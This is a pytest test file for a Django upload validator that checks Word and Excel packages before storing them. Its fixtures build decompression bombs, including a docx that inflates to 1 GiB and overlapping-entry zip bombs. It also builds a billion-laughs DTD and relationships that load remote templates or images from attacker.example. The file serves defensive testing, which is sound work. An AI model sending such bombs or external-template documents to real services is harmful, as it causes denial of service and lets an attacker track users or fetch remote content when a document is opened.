"""Uploaded Office packages are judged by their ZIP directory before anything parses or stores
them (core.ooxml): findings V1 (an 18 KB sheet of 100k inline strings) and V5 (a 1 MB .docx that
inflates to 1 GiB, accepted, stored and served back)."""

import functools
import io
import os
import struct
import subprocess
import sys
import zipfile
from pathlib import Path

import docx
import openpyxl
import pytest
from django.conf import settings
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation
from django.utils.translation import gettext

from core.attachments import attachments_add
from core.models import Attachment
from core.ooxml import MAX_ENTRIES, NOT_OOXML, UNSAFE_OOXML, ooxml_check
from plans import services
from plans.models import Report
from tests.plans.helpers import issued_plan

RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
ROOT = Path(__file__).resolve().parents[2]


def package(parts: dict[str, bytes | str], method=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def relationships(*rows: str) -> str:
    head = '<?xml version="1.0" encoding="UTF-8"?>'
    return f'{head}<Relationships xmlns="{PACKAGE_RELS}">{"".join(rows)}</Relationships>'


def docx_parts(document_rels: str = relationships()) -> dict[str, str]:
    return {
        "[Content_Types].xml": "<Types/>",
        "_rels/.rels": relationships(f'<Relationship Id="rId1" Type="{RELS}/officeDocument" '
                                     'Target="word/document.xml"/>'),
        "word/document.xml": f'<w:document xmlns:w="{WORD}"><w:body><w:p/></w:body></w:document>',
        "word/_rels/document.xml.rels": document_rels,
    }


def inline_string_sheet(cells: int) -> str:
    """A worksheet of `cells` inline-string cells, fifty to a row, as the V1 probe uploaded: cells
    without a reference (the reader counts them) compress to almost nothing."""
    cell = '<c t="inlineStr"><is><t>x</t></is></c>' * 50
    rows = "".join(f'<row r="{row}">{cell}</row>' for row in range(1, cells // 50 + 1))
    return f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{rows}</sheetData></worksheet>'


def xlsx_bomb(cells: int = 100_000) -> bytes:
    return package({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>",
                    "xl/worksheets/sheet1.xml": inline_string_sheet(cells)})


@functools.cache
def docx_bomb() -> bytes:
    """About 1 MB whose document.xml inflates to 1 GiB: streamed, so the test never holds the GiB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, content in docx_parts().items():
            if name != "word/document.xml":
                archive.writestr(name, content)
        with archive.open("word/document.xml", "w", force_zip64=True) as part:
            spaces = b" " * (1 << 20)
            for _ in range(1024):
                part.write(spaces)
    return buffer.getvalue()


def refusal(data: bytes, **kwargs) -> ValidationError:
    with pytest.raises(ValidationError) as excinfo:
        ooxml_check(io.BytesIO(data), **kwargs)
    return excinfo.value


@pytest.fixture(autouse=True)
def _english():
    with translation.override("en"):
        yield


# --- What is refused ----------------------------------------------------------------------------

def test_the_v1_sheet_of_100k_inline_strings_is_refused_by_its_compression_ratio():
    data = xlsx_bomb()
    assert len(data) < 20_000  # the probe's file was 18 KB
    error = refusal(data)
    assert error.code == UNSAFE_OOXML
    assert error.messages == ["The file is compressed far more than a real document (part “xl/worksheets/sheet1.xml”) "
                              "and may be a decompression bomb."]


def test_a_docx_that_inflates_to_1_gib_is_refused():
    data = docx_bomb()
    assert len(data) < 2 * 1024 * 1024
    assert refusal(data).messages == [
        "The file would unpack to more than 50 MB, which is more than any document needs."]


@pytest.mark.parametrize("size, refused", [(700 * 1024, False), (1300 * 1024, True)])
def test_the_total_inflated_size_is_the_setting_over_all_parts(settings, size, refused):
    settings.OOXML_MAX_INFLATED_BYTES = 1024 * 1024
    # Random bytes do not compress: no ratio to catch, only the total of two parts.
    half = os.urandom(size // 2)
    data = package({**docx_parts(), "word/media/a.bin": half, "word/media/b.bin": half})
    if refused:
        assert refusal(data).messages == [
            "The file would unpack to more than 1 MB, which is more than any document needs."]
    else:
        ooxml_check(io.BytesIO(data))


def test_a_caller_may_tighten_the_total_but_not_loosen_it(settings):
    data = package({**docx_parts(), "word/media/a.bin": os.urandom(600 * 1024)})
    ooxml_check(io.BytesIO(data))
    assert refusal(data, max_inflated=512 * 1024).code == UNSAFE_OOXML
    settings.OOXML_MAX_INFLATED_BYTES = 1024 * 1024
    ooxml_check(io.BytesIO(data), max_inflated=10 * 1024 * 1024)
    assert refusal(package({"a.bin": os.urandom(1100 * 1024)}), max_inflated=10 * 1024 * 1024).code == UNSAFE_OOXML


def test_too_many_parts_are_refused_before_they_are_listed():
    data = package({**docx_parts(), **{f"word/media/{n}.xml": "<a/>" for n in range(MAX_ENTRIES)}})
    assert refusal(data).messages == ["The file has too many parts (1,004; at most 1,000)."]


@pytest.mark.parametrize("kind, target", [
    ("image", "http://attacker.example/pixel.png"),
    ("attachedTemplate", "\\\\attacker.example\\share\\template.dotm"),
    ("oleObject", "file:///C:/Windows/system32/calc.exe"),
    ("externalLinkPath", "https://attacker.example/book.xlsx"),
])
def test_a_link_to_outside_content_is_refused(kind, target):
    rels = relationships(f'<Relationship Id="rId9" Type="{RELS}/{kind}" Target="{target}" TargetMode="External"/>')
    error = refusal(package(docx_parts(rels)))
    assert error.code == UNSAFE_OOXML
    assert error.messages == [f"The file links to content outside it (“{target}”), which Word or Excel would fetch "
                              "when it is opened. Save it without linked pictures, objects or templates."]


def test_a_hyperlink_is_no_outside_content_it_is_followed_only_when_clicked():
    rels = relationships(f'<Relationship Id="rId9" Type="{RELS}/hyperlink" Target="https://doanthanhnien.vn" '
                         'TargetMode="External"/>')
    ooxml_check(io.BytesIO(package(docx_parts(rels))))


def test_a_relationship_part_with_a_dtd_is_refused():
    laughs = ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
              f'<Relationships xmlns="{PACKAGE_RELS}"><Relationship Id="&b;" Type="x" Target="y"/></Relationships>')
    assert refusal(package(docx_parts(laughs))).code == NOT_OOXML


def test_an_oversized_relationship_part_is_refused():
    rows = "".join(f'<Relationship Id="rId{n}" Type="{RELS}/image" Target="media/{n}.png"/>' for n in range(30_000))
    assert refusal(package(docx_parts(relationships(rows)))).code == NOT_OOXML


def _patch(data: bytes, signature: bytes, offset: int, fmt: str, value) -> bytes:
    out = bytearray(data)
    at = out.find(signature)
    while at != -1:
        struct.pack_into(fmt, out, at + offset, value)
        at = out.find(signature, at + 1)
    return bytes(out)


def test_an_encrypted_package_is_refused():
    data = package(docx_parts())
    # The "encrypted" flag, in every local header and every directory entry.
    data = _patch(_patch(data, b"PK\x03\x04", 6, "<H", 1), b"PK\x01\x02", 8, "<H", 1)
    assert refusal(data).messages == [
        "The file is encrypted or protected by a password. Save it without a password and upload it again."]


def test_a_part_that_inflates_to_more_than_it_declares_is_read_no_further():
    rows = "".join(f'<Relationship Id="rId{n}" Type="{RELS}/image" Target="media/{n}.png"/>' for n in range(50_000))
    data = package({"_rels/.rels": relationships(rows)})
    # The lie: both headers declare 100 bytes where 3 MB inflate.
    data = _patch(_patch(data, b"PK\x03\x04", 22, "<I", 100), b"PK\x01\x02", 24, "<I", 100)
    assert zipfile.ZipFile(io.BytesIO(data)).infolist()[0].file_size == 100
    assert refusal(data).code == NOT_OOXML  # zipfile stops at the declared 100 bytes: CRC and XML fail


def test_a_compression_method_office_never_writes_is_refused():
    assert refusal(package(docx_parts(), method=zipfile.ZIP_BZIP2)).code == NOT_OOXML


def test_parts_that_overlap_are_refused():
    """Fifield's non-recursive bomb: many directory entries pointing at the same bytes."""
    data = package({"a.xml": "<a/>" * 100, "b.xml": "<b/>" * 100})
    directory = data.find(b"PK\x01\x02")
    second = data.find(b"PK\x01\x02", directory + 1)
    out = bytearray(data)
    struct.pack_into("<I", out, second + 42, 0)  # b.xml's local header offset := a.xml's
    assert refusal(bytes(out)).code == NOT_OOXML


@pytest.mark.parametrize("data", [b"", b"not a package", b"PK\x03\x04" + b"\x00" * 100, b"%PDF-1.4 ..."])
def test_what_is_not_a_zip_package_is_refused_as_not_office(data):
    error = refusal(data)
    assert (error.code, error.messages) == (
        NOT_OOXML, ["The file is not a valid Word (.docx) or Excel (.xlsx) file, or it is damaged."])


# --- What passes --------------------------------------------------------------------------------

def test_real_word_and_excel_files_pass_and_are_left_at_their_start():
    word, excel = io.BytesIO(), io.BytesIO()
    document = docx.Document()
    document.add_paragraph("Kế hoạch tổ chức Tháng Thanh niên năm 2025")
    document.save(word)
    workbook = openpyxl.Workbook()
    workbook.active.append(["Chỉ tiêu", 1200])
    workbook.save(excel)
    for file in (word, excel):
        file.seek(3)
        ooxml_check(file)
        assert file.tell() == 0


@pytest.mark.parametrize("value", ["1000", "ten"])
def test_a_bad_inflated_size_limit_stops_start_up(value, tmp_path):
    env = {"PATH": "/usr/bin:/bin", "APP_VAR_DIR": str(tmp_path), "OOXML_MAX_INFLATED_BYTES": value}
    result = subprocess.run([sys.executable, "-c", "import config.settings.base"], cwd=ROOT, env=env,
                            capture_output=True, text=True, timeout=60)
    assert result.returncode != 0
    assert "ConfigError" in result.stderr and "OOXML_MAX_INFLATED_BYTES" in result.stderr


def test_openpyxl_parses_our_uploads_with_defusedxml():
    # openpyxl switches to defusedxml when it is importable; a dependency change must not drop it.
    assert openpyxl.DEFUSEDXML is True


# --- Attachments (V5) ---------------------------------------------------------------------------

def stored_files() -> list[Path]:
    """Uploaded files kept; an issued plan's own document (plans.documents) is not an upload."""
    root = Path(settings.MEDIA_ROOT)
    documents = root / "plans" / "documents"
    return [p for p in root.rglob("*") if p.is_file() and documents not in p.parents] if root.exists() else []


def received_assignment(people):
    plan = issued_plan(people, recipients=[people.tree.muong_ang, people.tree.tuan_giao])
    assignment = plan.assignments.get(unit=people.tree.muong_ang)
    services.assignment_receive(assignment=assignment, by=people.muong_ang_officer)
    return assignment


@pytest.mark.django_db
@pytest.mark.parametrize("name, data", [
    ("bao-cao.docx", docx_bomb),
    ("so-lieu.xlsx", xlsx_bomb),
    ("bao-cao-co-mau-ngoai.docx", lambda: package(docx_parts(relationships(
        f'<Relationship Id="rId9" Type="{RELS}/attachedTemplate" Target="http://attacker.example/t.dotm" '
        'TargetMode="External"/>')))),
])
def test_a_dangerous_office_attachment_is_neither_stored_nor_served(people, name, data):
    plan = issued_plan(people, recipients=[people.tree.muong_ang])
    with pytest.raises(ValidationError) as excinfo:
        attachments_add(owner=plan, files=[SimpleUploadedFile(name, data())], by=people.province_officer)
    [message] = excinfo.value.message_dict["attachments"]
    assert message.startswith(f"{name}: ")
    assert not Attachment.objects.exists() and stored_files() == []


@pytest.mark.django_db
def test_a_good_word_file_is_still_attached(people):
    plan = issued_plan(people, recipients=[people.tree.muong_ang])
    word = io.BytesIO()
    docx.Document().save(word)
    [attachment] = attachments_add(owner=plan, files=[SimpleUploadedFile("ke-hoach.docx", word.getvalue())],
                                   by=people.province_officer)
    assert len(stored_files()) == 1 and attachment.original_name == "ke-hoach.docx"


@pytest.mark.django_db
def test_a_report_with_the_1_gib_docx_is_refused_on_the_form_and_nothing_is_saved(client, people):
    assignment = received_assignment(people)
    client.force_login(people.muong_ang_officer)
    with translation.override("vi"):
        # The message as the officer reads it, in the site's language.
        expected = gettext("The file would unpack to more than %(limit)s MB, which is more than any document needs."
                           ) % {"limit": "50"}
        response = client.post(reverse("plans:assignment-report", args=[assignment.pk]), {
            "text": "Báo cáo kết quả Tháng Thanh niên",
            "attachments": [SimpleUploadedFile("bao-cao.docx", docx_bomb())]})
    assert response.status_code == 200
    assert response.context["report_form"].errors["attachments"] == [f"bao-cao.docx: {expected}"]
    assert not Report.objects.filter(assignment=assignment).exists()
    assert not Attachment.objects.exists() and stored_files() == []
